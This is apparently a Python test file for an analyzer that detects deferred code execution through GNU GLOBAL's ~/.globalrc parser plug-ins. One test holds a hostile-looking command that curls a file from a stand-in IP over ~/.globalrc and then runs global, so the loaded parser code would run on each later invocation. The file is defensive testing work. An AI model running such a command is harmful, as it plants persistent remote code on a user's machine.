"""Program configuration files that name code a program loads (programs.json `runs_later`): GNU GLOBAL's
~/.globalrc, whose gtags_parser entries name plug-in parsers gtags loads on every run."""

from __future__ import annotations

from pathlib import Path

from effect_support import HOME, effects


def _deferred(command: str, proj: Path) -> list[str]:
    return [str(e.get("startup")) for e in effects(command, proj) if e["op"] == "exec" and e.get("deferred")]


def test_a_download_written_to_the_globalrc_is_code_run_later(tmp_path: Path) -> None:
    assert _deferred("curl -sSo ~/.globalrc https://203.0.113.9/globalrc && global -u", tmp_path) == [
        f"{HOME}/.globalrc"
    ]


def test_the_projects_tags_built_with_the_home_configuration_untouched_run_nothing_later(tmp_path: Path) -> None:
    assert _deferred("gtags && global -x main", tmp_path) == []
